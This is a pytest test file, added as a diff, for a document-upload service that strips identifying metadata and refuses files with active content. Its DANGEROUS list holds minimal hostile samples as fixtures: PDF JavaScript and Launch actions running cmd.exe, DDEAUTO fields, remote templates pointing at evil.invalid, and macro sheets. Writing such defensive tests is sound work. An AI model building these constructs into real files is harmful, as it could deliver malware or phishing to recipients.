@@ -1,0 +1,209 @@
+"""What a file tells beside its content goes when it is kept; what would run or fetch something is refused by name."""
+
+import zipfile
+from io import BytesIO
+from pathlib import Path
+
+import olefile
+import pikepdf
+import pytest
+from tests.documents.conftest import AT, gps_exif, left_behind, picture
+from tests.documents.samples import box, film, office, ole, pdf, relations, word
+
+from huiyin.documents.errors import (
+    FileDamaged,
+    FileHasMacros,
+    FileHasScripts,
+    FileLocked,
+    FileReachesOut,
+    FileRefused,
+    FileTypeRefused,
+)
+from huiyin.documents.selectors import file_open
+from huiyin.documents.services import file_store
+
+pytestmark = pytest.mark.django_db
+
+WHO, WHERE = "柳荫镇林某", "+31.2345+121.4747/"
+TELLING = (WHO.encode(), WHO.encode("utf-16-le"), WHO.encode("utf-16-be"), WHERE.encode(), b"SpyPhone", b"WHENWHEN")
+CORE = f'<?xml version="1.0"?><c xmlns:d="http://d"><d:creator>{WHO}</d:creator></c>'
+
+
+def _kept(content: bytes, name: str) -> bytes:
+    with file_open(file_id=file_store(content=BytesIO(content), name=name, at=AT).id) as file:
+        return file.read()
+
+
+def _tells(content: bytes) -> list[bytes]:
+    parts = [content]
+    if zipfile.is_zipfile(BytesIO(content)):
+        with zipfile.ZipFile(BytesIO(content)) as archive:
+            parts += [archive.read(name) for name in archive.namelist()] + [archive.comment]
+    if content.startswith(b"%PDF"):
+        with pikepdf.open(BytesIO(content)) as opened:
+            parts += [repr(one).encode() for one in opened.objects]
+            parts += [one.read_raw_bytes() for one in opened.objects if isinstance(one, pikepdf.Stream)]
+    return [word for word in TELLING if any(word in part for part in parts)]
+
+
+PHOTO = picture("JPEG", exif=gps_exif(), comment=WHO.encode())
+OFFICE_PARTS: dict[str, str | bytes] = {
+    "docProps/core.xml": CORE,
+    "docProps/app.xml": CORE,
+    "docProps/custom.xml": CORE,
+    "docProps/thumbnail.jpeg": PHOTO,
+    "word/media/image1.jpeg": PHOTO,
+}
+ID3 = b"ID3\x03\0\0\0\0\0\x20" + WHO.encode().ljust(32, b"\0")
+FRAMES = b"\xff\xfb\x90\x64" + bytes(60)
+SUMMARY = ("\x05SummaryInformation", "\x05DocumentSummaryInformation")
+PLACE_TRACK = box(b"trak", box(b"mdia", box(b"hdlr", bytes(8), b"meta", bytes(12)), WHERE.encode()))
+
+TELLING_FILES = {
+    "a.pdf": pdf(
+        "pdf.Root.Metadata = pdf.make_stream(pdf.docinfo.Author.unparse() + b'SpyPhone')\n"
+        "page.obj.PieceInfo = Dictionary(Who=pdf.docinfo.Author)\n"
+        "page.obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]),"
+        " T=pdf.docinfo.Author, Contents=String('words'))])",
+        Author=WHO,
+    ),
+    "a.docx": office(parts=OFFICE_PARTS),
+    "a.xlsx": office("xl/workbook.xml", OFFICE_PARTS),
+    "a.pptx": office("ppt/presentation.xml", OFFICE_PARTS),
+    "a.doc": ole({"WordDocument": b"", **dict.fromkeys(SUMMARY, WHO.encode())}),
+    "a.xls": ole({"Workbook": b"", **dict.fromkeys(SUMMARY, WHO.encode("utf-16-le"))}),
+    "a.mp3": ID3 + FRAMES + (b"TAG" + WHO.encode()).ljust(128, b"\0"),
+    "a.wav": b"RIFF\x60\0\0\0WAVEfmt \x04\0\0\0ffffLIST\x10\0\0\0" + WHO.encode().ljust(16) + b"data\x04\0\0\0ssss",
+    "a.mp4": film(box(b"udta", box(b"\xa9xyz", WHERE.encode())), box(b"meta", WHO.encode()), PLACE_TRACK),
+}
+
+
+@pytest.mark.parametrize("name", TELLING_FILES)
+def test_nothing_is_told_of_place_author_and_device(folder: Path, name: str) -> None:
+    content = TELLING_FILES[name]
+    assert _tells(content)
+    kept = _kept(content, name)
+    assert _tells(kept) == []
+
+
+def test_what_it_is_for_stays(folder: Path) -> None:
+    assert _kept(TELLING_FILES["a.mp3"], "a.mp3") == FRAMES
+    assert b"ffff" in (sound := _kept(TELLING_FILES["a.wav"], "a.wav")) and sound.endswith(b"data\x04\0\0\0ssss")
+    kept = _kept(TELLING_FILES["a.mp4"], "a.mp4")
+    assert len(kept) == len(TELLING_FILES["a.mp4"]) and kept.endswith(box(b"mdat", b"PICTURES"))
+    with pikepdf.open(BytesIO(_kept(TELLING_FILES["a.pdf"], "a.pdf"))) as opened:
+        assert len(opened.pages) == 1
+        (note,) = opened.pages[0].obj.Annots
+        assert str(note.Contents) == "words"
+    with zipfile.ZipFile(BytesIO(_kept(TELLING_FILES["a.docx"], "a.docx"))) as archive:
+        assert archive.testzip() is None
+        assert archive.read("word/document.xml") == b"<root/>"
+    with olefile.OleFileIO(BytesIO(_kept(TELLING_FILES["a.doc"], "a.doc"))) as container:
+        assert container.exists("WordDocument")
+        assert container.getproperties(SUMMARY[0]) == {}
+
+
+def test_a_picture_inside_keeps_its_pixels(folder: Path) -> None:
+    with zipfile.ZipFile(BytesIO(_kept(TELLING_FILES["a.docx"], "a.docx"))) as archive:
+        bare = archive.read("word/media/image1.jpeg")
+    assert b"Exif" not in bare and PHOTO.endswith(bare[-200:])
+
+
+def test_what_is_signed_is_not_touched(folder: Path) -> None:
+    signed = pdf(
+        "pdf.Root.Sig = pdf.make_indirect(Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=b'x'))",
+        Author=WHO,
+    )
+    assert _kept(signed, "a.pdf") == signed
+    paper = office(parts={**OFFICE_PARTS, "_xmlsignatures/sig1.xml": "<x/>"})
+    assert _kept(paper, "a.docx") == paper
+
+
+def _script(action: str) -> bytes:
+    return pdf(f"pdf.Root.OpenAction = {action}")
+
+
+def _attached(name: str, content: str) -> bytes:
+    return pdf(f"pdf.attachments['{name}'] = pikepdf.AttachedFileSpec(pdf, {content}, filename='{name}')")
+
+
+def _field(text: str) -> bytes:
+    return office(parts={"word/document.xml": word(text)})
+
+
+def _rel(part: str, kind: str, target: str, **more: str) -> bytes:
+    return office(parts={part: relations(kind, target, **more)})
+
+
+DANGEROUS = [
+    (_script("Dictionary(S=Name.JavaScript, JS=String('app.alert(1)'))"), FileHasScripts),
+    (_script("pdf.make_indirect(Dictionary(S=Name.Launch, F=String('cmd.exe')))"), FileHasScripts),
+    (_script("Dictionary(S=Name.URI, Next=Array([Dictionary(S=Name.SubmitForm)]))"), FileHasScripts),
+    (pdf("pdf.Root.AcroForm = Dictionary(XFA=Array([]))"), FileHasScripts),
+    (pdf("page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b'x')))"), FileHasScripts),
+    (_attached("run.exe", "b'MZ'"), FileHasScripts),
+    (_attached("run.xml", "b'MZ\\x00'"), FileHasScripts),
+    (b"%PDF-1.7\n%...", FileDamaged),
+    (_rel("word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.invalid/a.dotm"), FileReachesOut),
+    (_rel("word/_rels/document.xml.rels", "oleObject", "http://evil.invalid/a"), FileReachesOut),
+    (_rel("word/_rels/document.xml.rels", "frame", "http://evil.invalid/a"), FileReachesOut),
+    (_rel("word/_rels/document.xml.rels", "image", "file://evil.invalid/a.png"), FileReachesOut),
+    (_rel("word/_rels/document.xml.rels", "aFChunk", "a.mht", mode="Internal"), FileHasMacros),
+    (_field('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'), FileReachesOut),
+    (_field("<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO cmd</w:instrText>"), FileReachesOut),
+    (_field("<w:instrText> QUOTE 68 68 69 65 </w:instrText>"), FileReachesOut),
+    (office("xl/workbook.xml", {"xl/externalLinks/externalLink1.xml": "<x><ddeLink/></x>"}), FileReachesOut),
+    (office("xl/workbook.xml", {"xl/connections.xml": '<x><connection refreshOnLoad="1"/></x>'}), FileReachesOut),
+    (office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "<x/>"}), FileHasMacros),
+    (office("xl/workbook.xml", types="<Override ContentType='application/macrosheet+xml'/>"), FileHasMacros),
+    (office(parts={"word/VBAproject.BIN": "x"}), FileHasMacros),
+    (office(parts={"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}), FileHasMacros),
+    (office(parts={"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), FileTypeRefused),
+    (ole({"WordDocument": b"", "_VBA_PROJECT": b""}), FileHasMacros),
+    (ole({"Workbook": b"\x85\x00\x08\x00\0\0\0\0\0\x01\0\0"}), FileHasMacros),
+    (ole({"Workbook": b"\x2f\x00\x02\x00\0\0"}), FileLocked),
+    (ole({"Workbook": b"\xae\x01\x0a\x00\x01\x00\x05\x00\x00cmd\x03x"}), FileReachesOut),
+    (ole({"WordDocument": bytes(600) + b"\x13 DDEAUTO c:\\cmd.exe"}), FileReachesOut),
+    (ole({"WordDocument": b"", "1Table": "http://evil.invalid/a.dotm".encode("utf-16-le")}), FileReachesOut),
+    (ole({"WordDocument": bytes(11) + b"\x01"}), FileLocked),
+    (ole({"WordDocument": b"", "\x01Ole10Native": b""}), FileHasMacros),
+    (box(b"ftyp", b"isom\0\0\0\0mp41") + b"\0\0\xff\xffmoov", FileDamaged),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("content", "refusal"), DANGEROUS)
+def test_what_runs_or_fetches_something_is_refused_by_name(
+    folder: Path, content: bytes, refusal: type[FileRefused]
+) -> None:
+    with pytest.raises(refusal) as refused:
+        file_store(content=BytesIO(content), name="材料", at=AT)
+    assert type(refused.value) is refusal
+    assert left_behind(folder) == []
+
+
+HARMLESS = [
+    _attached("invoice.xml", "b'<a/>'"),
+    _script("Dictionary(S=Name.URI, URI=String('https://example.invalid/'))"),
+    _rel("word/_rels/document.xml.rels", "hyperlink", "https://example.invalid/"),
+    _rel("word/_rels/document.xml.rels", "image", "https://example.invalid/a.png"),
+    _field("<w:instrText> PAGE </w:instrText><w:t>DDE is a word</w:t>"),
+    ole({"Workbook": b"\x85\x00\x08\x00\0\0\0\0\0\x00\0\0" + b"\xae\x01\x04\x00\x01\x00\x01\x04"}),
+    ole({"WordDocument": bytes(600) + b"\x13 PAGE "}),
+]
+
+
+@pytest.mark.parametrize("content", HARMLESS)
+def test_what_only_looks_so_is_kept(folder: Path, content: bytes) -> None:
+    assert _kept(content, "材料")
+
+
+def test_a_pdf_that_only_forbids_printing_is_kept_and_one_with_a_password_is_not(folder: Path) -> None:
+    for user, refused in (("", False), ("geheim", True)):
+        buffer = BytesIO()
+        with pikepdf.open(BytesIO(pdf(Author=WHO))) as opened:
+            opened.save(buffer, encryption=pikepdf.Encryption(owner="besitzer", user=user))
+        if refused:
+            with pytest.raises(FileLocked):
+                _kept(buffer.getvalue(), "a.pdf")
+        else:
+            assert _tells(_kept(buffer.getvalue(), "a.pdf")) == []
